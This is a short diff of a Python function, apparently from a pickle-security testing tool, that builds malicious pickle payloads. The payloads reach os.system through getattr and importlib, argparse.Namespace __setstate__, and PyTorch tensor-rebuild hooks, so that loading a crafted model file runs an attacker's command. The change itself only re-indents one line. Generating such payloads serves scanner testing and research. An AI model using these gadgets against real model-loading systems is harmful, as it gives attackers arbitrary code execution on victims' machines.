@@ -26,7 +26,7 @@ def evil_objects(command):
         "getattr": pickles.call("builtins", "getattr", pickles.call("importlib", "import_module", pickles.text("os")),
                                 pickles.text("system")) + argument + b"\x85R",
         "setstate": pickles.call("argparse", "Namespace") + pickles.value({"__setstate__": None})[:2] +
-                    pickles.text("__setstate__") + system + b"ub" + argument + b"b",
+        pickles.text("__setstate__") + system + b"ub" + argument + b"b",
         "from_type": pickles.call("torch._tensor", "_rebuild_from_type_v2", system, pickles.function("torch", "Tensor"),
                                   b"(" + argument + b"t", b"N"),
         "hooks": pickles.call("torch._utils", "_rebuild_tensor_v2", pickles.storage("Float", "0", 1), pickles.integer(0),
